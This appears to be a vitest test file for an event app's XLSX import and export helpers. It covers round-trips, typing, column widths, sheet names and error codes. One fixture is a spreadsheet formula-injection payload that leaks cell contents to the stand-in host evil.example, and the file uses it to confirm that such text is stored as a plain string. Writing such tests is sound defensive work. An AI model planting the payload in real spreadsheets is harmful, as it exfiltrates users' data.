import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { ImportFileError } from '@usher/domain/guest-import/parse-csv';
import { readXlsxRows, writeXlsx } from '../../src/spreadsheets/xlsx.ts';

const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

async function workbookBuffer(build: (workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  build(workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

async function loadWorkbook(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return workbook;
}

async function rejection(promise: Promise<unknown>): Promise<ImportFileError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof ImportFileError) return error;
    throw error;
  }
  throw new Error('expected an ImportFileError');
}

describe('writeXlsx then readXlsxRows', () => {
  const rows = [
    {
      first_name: 'Zoë',
      last_name: 'Müller, Jr.',
      email: 'zoe@example.com',
      note: INJECTION,
      phone_number: '+12025550143',
      tags: ['VIP', 'Press'],
      amount: -12.5,
      checked_in: true,
      checked_in_at: new Date(Date.UTC(2025, 2, 4, 18, 30)),
    },
    {
      first_name: '+SUM(1,2)',
      last_name: '-minus',
      email: '@cmd',
      note: 'two\nlines',
      phone_number: null,
      tags: [],
      amount: 12025550143,
      checked_in: false,
      checked_in_at: undefined,
    },
  ];

  it('round-trips the values as text', async () => {
    const sheet = await readXlsxRows(await writeXlsx(rows, 'Guests'));
    expect(sheet.headers).toEqual(Object.keys(rows[0]!));
    expect(sheet.rows).toEqual([
      ['Zoë', 'Müller, Jr.', 'zoe@example.com', INJECTION, '+12025550143', 'VIP; Press', '-12.5', 'Yes', '2025-03-04T18:30:00.000Z'],
      ['+SUM(1,2)', '-minus', '@cmd', 'two\nlines', '', '', '12025550143', 'No'],
    ]);
    expect(sheet.rowNumbers).toEqual([2, 3]);
  });

  it('writes text that looks like a formula as a plain string, never as a formula', async () => {
    const workbook = await loadWorkbook(await writeXlsx(rows, 'Guests'));
    const sheet = workbook.worksheets[0]!;
    for (const address of ['D2', 'A3', 'B3', 'C3']) {
      const cell = sheet.getCell(address);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(typeof cell.value).toBe('string');
    }
    expect(sheet.getCell('D2').value).toBe(INJECTION);
  });

  it('keeps numbers and dates typed, and makes the header bold', async () => {
    const workbook = await loadWorkbook(await writeXlsx(rows, 'Guests'));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Guests');
    expect(sheet.getCell('G2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('I2').type).toBe(ExcelJS.ValueType.Date);
    expect(sheet.getCell('A1').font?.bold).toBe(true);
    expect(sheet.getCell('A2').font?.bold).toBeFalsy();
  });

  it('fits column widths to the content, up to a maximum', async () => {
    const buffer = await writeXlsx([{ id: 1, name: 'Ada Lovelace', note: 'x'.repeat(500) }], 'Guests');
    const sheet = (await loadWorkbook(buffer)).worksheets[0]!;
    expect(sheet.getColumn(1).width).toBe(8);
    expect(sheet.getColumn(2).width).toBe('Ada Lovelace'.length + 2);
    expect(sheet.getColumn(3).width).toBe(60);
  });

  it('makes any sheet name one Excel accepts', async () => {
    const named = async (name: string) => (await loadWorkbook(await writeXlsx([{ a: 1 }], name))).worksheets[0]!.name;
    expect(await named('VIP/Press: [2025]?')).toBe('VIP Press   2025');
    expect(await named('A very long guest list name for the gala dinner')).toBe('A very long guest list name for');
    expect(await named(" ''' ")).toBe('Sheet1');
  });

  it('writes an empty sheet when there are no rows', async () => {
    const sheet = (await loadWorkbook(await writeXlsx([], 'Guests'))).worksheets[0]!;
    expect(sheet.rowCount).toBe(0);
  });
});

describe('readXlsxRows', () => {
  it('reads formulas as their cached result, without evaluating them', async () => {
    const buffer = await workbookBuffer((workbook) => {
      const sheet = workbook.addWorksheet('Guests');
      sheet.addRow(['name', 'total', 'missing', 'error']);
      sheet.addRow(['Ada', { formula: '1+1', result: 7 }, { formula: 'B2*2' }, { error: '#N/A' }]);
    });
    expect((await readXlsxRows(buffer)).rows).toEqual([['Ada', '7', '', '#N/A']]);
  });

  it('reads rich text, hyperlinks, booleans and dates as text', async () => {
    const buffer = await workbookBuffer((workbook) => {
      const sheet = workbook.addWorksheet('Guests');
      sheet.addRow(['name', 'email', 'vip', 'since']);
      sheet.addRow([
        { richText: [{ text: 'Zo', font: { bold: true } }, { text: 'ë' }] },
        { text: 'zoe@example.com', hyperlink: 'mailto:zoe@example.com' },
        true,
        new Date(Date.UTC(2024, 0, 31)),
      ]);
    });
    expect((await readXlsxRows(buffer)).rows).toEqual([['Zoë', 'zoe@example.com', 'TRUE', '2024-01-31T00:00:00.000Z']]);
  });

  it('reads numbers as people typed them, without exponents or float noise', async () => {
    const buffer = await workbookBuffer((workbook) => {
      const sheet = workbook.addWorksheet('Guests');
      sheet.addRow(['a', 'b', 'c', 'd', 'e']);
      sheet.addRow([2025550143, 1e21, 1.5e-7, 0.1 + 0.2, -42]);
    });
    expect((await readXlsxRows(buffer)).rows).toEqual([['2025550143', '1000000000000000000000', '0.00000015', '0.3', '-42']]);
  });

  it('reads only the first worksheet, skips blank rows and keeps spreadsheet row numbers', async () => {
    const buffer = await workbookBuffer((workbook) => {
      const guests = workbook.addWorksheet('Guests');
      guests.getCell('A2').value = ' First Name ';
      guests.getCell('B2').value = 'Email';
      guests.getCell('A3').value = 'Ada';
      guests.getCell('A5').value = '  ';
      guests.getCell('A6').value = 'Grace';
      guests.getCell('C6').value = 'extra';
      workbook.addWorksheet('Notes').addRow(['not', 'guests']);
    });
    expect(await readXlsxRows(buffer)).toEqual({
      headers: ['First Name', 'Email'],
      rows: [['Ada'], ['Grace', '', 'extra']],
      rowNumbers: [3, 6],
    });
  });

  it('refuses an empty sheet and a sheet with only a header', async () => {
    const empty = await workbookBuffer((workbook) => workbook.addWorksheet('Guests'));
    expect((await rejection(readXlsxRows(empty))).code).toBe('empty_file');
    const headerOnly = await workbookBuffer((workbook) => workbook.addWorksheet('Guests').addRow(['First Name', 'Email']));
    const error = await rejection(readXlsxRows(headerOnly));
    expect(error.code).toBe('no_guests');
    expect(error.message).toBe('The file has no guests.');
  });

  it('refuses a file exceljs cannot open as a validation error, not a crash', async () => {
    const notXlsx = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x01, 0x02]);
    const error = await rejection(readXlsxRows(notXlsx));
    expect(error.code).toBe('unreadable_file');
    expect(error.errors).toEqual({ file: ['The file could not be read as a spreadsheet.'] });
  });
});
